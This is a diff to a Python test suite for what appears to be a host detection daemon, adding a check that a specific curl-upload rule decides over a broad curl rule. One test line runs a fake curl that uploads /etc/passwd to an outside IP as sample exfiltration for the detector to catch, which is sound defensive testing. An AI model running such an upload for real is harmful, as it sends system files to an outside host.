@@ -101,11 +101,17 @@ def by_pid(pid):
     return lambda e: e["proc"]["pid"] == pid
 
 
+def matched(e, rid):
+    """rid decided the event or is among the other rules that matched it."""
+    return is_rule(e, rid) or any(is_rule({"rule": m["rule"]}, rid) for m in e.get("matches", []))
+
+
 def quiet(daemon, name, pid):
-    """After a marker: rule of name did not act on pid."""
+    """After a marker: rule of name did not act on pid (neither decided nor
+    matched)."""
     daemon.marker()
     rid, _ = rule_meta(name)
-    assert not [e for e in daemon.by_pid(pid) if is_rule(e, rid)]
+    assert not [e for e in daemon.by_pid(pid) if matched(e, rid)]
 
 
 # ------------------------------------------------------------ process_creation
@@ -163,6 +169,21 @@ def test_net_tools_with_listen_filter(sg, tmp):
     hit(sg, "pc_net_tools.yml", by_pid(probing), type_="exec")
     hit(sg, "pc_net_tools.yml", by_pid(scanning), type_="exec")
     quiet(sg, "pc_net_tools.yml", listening)
+
+
+def test_specific_rule_decides_over_broad_one(sg, tmp):
+    """Curl Usage (low) comes first in the policy, Suspicious Curl File Upload
+    (medium) after it: the upload rule decides and Curl Usage is named among
+    the matches."""
+    curl = fake(tmp, "curl")
+    pid = run([curl, "--upload-file", "/etc/passwd", "http://198.51.100.7/up"])
+    ev = hit(sg, "pc_curl_upload.yml", by_pid(pid), type_="exec")
+    any_id, _ = rule_meta("pc_curl_any.yml")
+    assert {"rule": any_id, "action": "alert", "severity": "low"} in ev.get("matches", []), ev
+    # a plain curl: only the broad rule, which decides
+    pid = run([curl, "-s", "http://198.51.100.7/"])
+    ev = hit(sg, "pc_curl_any.yml", by_pid(pid), type_="exec")
+    assert "matches" not in ev, ev
 
 
 def test_curl_upload_to_loopback_is_filtered(sg, tmp):
